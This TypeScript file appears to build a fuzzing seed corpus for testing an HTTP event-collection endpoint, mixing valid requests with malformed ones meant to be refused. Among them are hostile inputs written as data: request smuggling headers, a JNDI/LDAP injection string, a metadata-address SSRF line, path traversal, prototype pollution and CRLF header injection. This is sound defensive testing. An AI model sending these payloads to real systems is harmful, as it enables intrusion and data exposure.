/** What the mutations begin with: requests that are good, and one or more of every kind that is refused. */
import { CHUNKED, chunks, crumbs, framed, GOOD, LENGTH, LINE, OURS } from '../support/node-proxy.js';
import { rawRequest } from '../support/sockets.js';
import { eventId, START, wireBody, wireEvent } from '../support/wire.js';

/** Is in requests, and must not be in any reply. */
export const ECHO = 'ECHOq7Zx';
/** The one origin that is listed. */
export const SHOP = 'https://shop.example';

const [TYPE = '', SITE = ''] = OURS;
const gunzipped = '\x1f\x8b\x08\0\0\0\0\0\0\x03';
const sized = (body: string, headers: readonly string[] = OURS, line = LINE): string =>
  rawRequest(line, [...headers, `Content-Length: ${body.length}`], body);
const nested = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`;

const GOOD_ONES = [
  framed([LENGTH]),
  framed([CHUNKED], chunks(GOOD)),
  framed([CHUNKED], crumbs(GOOD)),
  sized(GOOD, [TYPE, `Origin: ${SHOP}`]),
  sized(wireBody([2, 3, 4].map((number) => wireEvent(number, { type: 'dismissed' })))),
  sized(wireBody([wireEvent(5, { expires_at: START + 1, subject: 'u:1' })])),
  sized(wireBody(Array.from({ length: 40 }, (_, at) => wireEvent(10 + at)))),
  `${framed([LENGTH]).replace('Connection: close\r\n', '')}${framed([CHUNKED], chunks(GOOD))}`,
];

const LINES = [
  ...['GET', 'HEAD', 'PUT', 'DELETE', 'OPTIONS', 'TRACE', 'CONNECT', 'PRI', 'post'].map((method) =>
    LINE.replace('POST', method),
  ),
  `POST /../%2e%2e/${ECHO}%00?x=${ECHO}#y HTTP/1.1`,
  `POST http://169.254.169.254/${ECHO} HTTP/1.1`,
  'POST * HTTP/1.1',
  LINE.replace('1.1', '1.0'),
  LINE.replace('1.1', '2.0'),
  'POST /',
].map((line) => framed([LENGTH], GOOD, line));

const HEADERS = [
  ['Content-Length: -1'],
  [LENGTH, CHUNKED],
  [LENGTH, LENGTH],
  ['Transfer-Encoding: gzip, chunked'],
  ['Transfer-Encoding:\x0bchunked'],
  [LENGTH, 'Expect: 100-continue'],
  [LENGTH, `Expect: ${ECHO}`],
  [LENGTH, 'Content-Encoding: gzip'],
  [LENGTH, 'Upgrade: websocket', 'Connection: upgrade', 'Sec-WebSocket-Key: eA=='],
  [LENGTH, 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA'],
  [LENGTH, `X-Forwarded-For: ${'1.2.3.4:5, '.repeat(200)}${ECHO}`, `X-Forwarded-Host: ${ECHO}`],
  [LENGTH, `X-A: \x1b[31m${ECHO}`, `User-Agent: \${jndi:ldap://${ECHO}.example/a}`],
  [LENGTH, `Cookie: ${ECHO}=1`, `Authorization: Basic ${ECHO}`, `chargebee-idempotency-key: ${ECHO}`],
  [LENGTH, 'Host: evil.example'],
  [LENGTH, `X-A: 1\r\n ${ECHO}`],
  [LENGTH, ...Array.from({ length: 150 }, (_, at) => `X-${at}: ${ECHO}`)],
].map((headers) => framed(headers, headers.some((header) => /chunked/.test(header)) ? chunks(GOOD) : GOOD));

const SENDERS = [
  ['Sec-Fetch-Site: cross-site'],
  ['Sec-Fetch-Site: none'],
  [SITE, SITE],
  [],
  ['Origin: null'],
  [`Origin: ${SHOP}.${ECHO}.example`],
  [`Origin: ${SHOP}`, `Origin: ${SHOP}`],
  [SITE, 'Sec-Fetch-Mode: navigate'],
].map((sender) => sized(GOOD, [TYPE, ...sender]));

const TYPES = ['text/plain;charset=UTF-8', 'application/x-www-form-urlencoded', `application/${ECHO}`].map(
  (type) => sized(GOOD, [`Content-Type: ${type}`, SITE]),
);

const BODIES = [
  '',
  '{',
  '[]',
  '\xef\xbb\xbf{}',
  'v=1&events=',
  `${GOOD}${GOOD}`,
  GOOD.replace('"v":1', '"v":2'),
  GOOD.replace('"v":1', '"v":1,"__proto__":{"polluted":1}'),
  GOOD.replace('"type"', `"api_key":"${ECHO}","type"`),
  GOOD.replace('viewed', ECHO),
  GOOD.replace('a52ge1', `../${ECHO}\\u0000\\r\\nX-A: b`),
  GOOD.replace('a52ge1', '\xff\xfe'),
  GOOD.replace('a52ge1', '\\ud800'),
  GOOD.replace(/\d{13}/, '1e999'),
  GOOD.replace(/\d{13}/, '-0'),
  GOOD.replace(eventId(1), `${eventId(1)}\\n`),
  wireBody([wireEvent(1), wireEvent(1, { type: 'dismissed' })]),
  wireBody([]),
  wireBody(Array<number>(501).fill(0)),
  wireBody('RAW').replace('"RAW"', nested(2_000)),
  nested(3_000),
  `${gunzipped}${ECHO}`,
].map((body) => sized(body));

/** Latin-1 texts: a character is a byte. */
export const CORPUS: readonly string[] = [
  ...GOOD_ONES,
  ...LINES,
  ...HEADERS,
  ...SENDERS,
  ...TYPES,
  ...BODIES,
  framed([CHUNKED], chunks(GOOD, 'f'.repeat(17))),
  framed([CHUNKED], chunks(GOOD, `${GOOD.length.toString(16)};${ECHO}="x"`)),
  framed([CHUNKED], chunks(GOOD).replace(/\r\n$/, `X-A: ${ECHO}\r\n${SITE}\r\n\r\n`)),
  framed([CHUNKED], `${chunks(GOOD)}${ECHO}`),
  '\r\n\r\n\r\n',
  '\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0',
  'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\n',
  '\0'.repeat(64),
];

/** Sent as they are, and rarely, for their size. */
export const LARGE: readonly string[] = [
  framed([`X-A: ${ECHO.repeat(2_200)}`, LENGTH]),
  framed([...Array.from({ length: 3_000 }, () => 'a:'), LENGTH]),
  sized(' '.repeat(500_001)),
  framed([CHUNKED], `${`4000\r\n${' '.repeat(16_384)}\r\n`.repeat(40)}0\r\n\r\n`),
  sized(nested(200_000)),
  sized(wireBody(Array<number>(200_000).fill(0))),
  sized(
    wireBody(Array.from({ length: 500 }, () => wireEvent(6, { personalized_offer_id: ECHO.repeat(40) }))),
  ),
];
